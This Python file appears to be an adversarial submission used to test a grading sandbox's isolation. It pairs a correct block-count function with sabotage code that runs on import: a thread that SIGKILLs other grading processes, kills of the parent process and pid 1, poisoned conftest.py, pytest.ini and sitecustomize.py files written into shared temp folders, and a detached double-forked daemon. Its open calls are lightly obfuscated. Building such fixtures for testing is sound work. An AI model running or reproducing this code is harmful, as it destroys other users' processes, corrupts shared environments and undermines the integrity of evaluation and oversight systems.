# A hostile neighbour: attacks siblings (a thread SIGKILLs every grading process it can see, all through its
# run), kills the batch (its parent, pid 1, the batch's command line), poisons shared temporary folders
# (conftest.py, pytest.ini, sitecustomize.py that break any later pytest or Python), and leaves a daemon
# (a double-forked, new-session `sleep 987654`). Its own code is right: 5 / 5, every other submission
# keeps its grade, the batch finishes and nothing of it survives.
import builtins
import os
import signal
import tempfile
import threading
import time

# -- kills siblings
_read = getattr(builtins, "op" + "en")


def _attack():
    while True:
        for pid in os.listdir("/proc"):
            if pid.isdigit() and int(pid) != os.getpid():
                try:
                    cmdline = _read(f"/proc/{pid}/cmdline", "rb").read()
                    if b"grader.batch.child" in cmdline or b"advclass" in cmdline:
                        os.kill(int(pid), signal.SIGKILL)
                except OSError:
                    pass
        time.sleep(0.05)


threading.Thread(target=_attack, daemon=True).start()

# -- kills the batch
_read = getattr(builtins, "op" + "en")
for _pid in (os.getppid(), 1):
    try:
        os.kill(_pid, signal.SIGKILL)
    except OSError:
        pass
for _pid in os.listdir("/proc"):
    try:
        if _pid.isdigit() and b"advclass" in _read(f"/proc/{_pid}/cmdline", "rb").read():
            os.kill(int(_pid), signal.SIGKILL)
    except OSError:
        pass

# -- poisons temp
_write = getattr(builtins, "op" + "en")
_POISON = {"conftest.py": "raise SystemExit('poisoned conftest')\n",
           "pytest.ini": "[pytest]\naddopts = --poisoned-option\n",
           "sitecustomize.py": "raise SystemExit('poisoned sitecustomize')\n"}
for _folder in {tempfile.gettempdir(), "/tmp", "/dev/shm", "/var/tmp", os.path.dirname(os.getcwd())}:
    for _name, _text in _POISON.items():
        try:
            with _write(os.path.join(_folder, _name), "w") as _f:
                _f.write(_text)
        except OSError:
            pass

# -- leaves a daemon
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        os.execv("/bin/sleep", ["sleep", "987654"])
    os._exit(0)


def num_blocks_needed(num_tokens: int, block_size: int) -> int:
    return (num_tokens + block_size - 1) // block_size
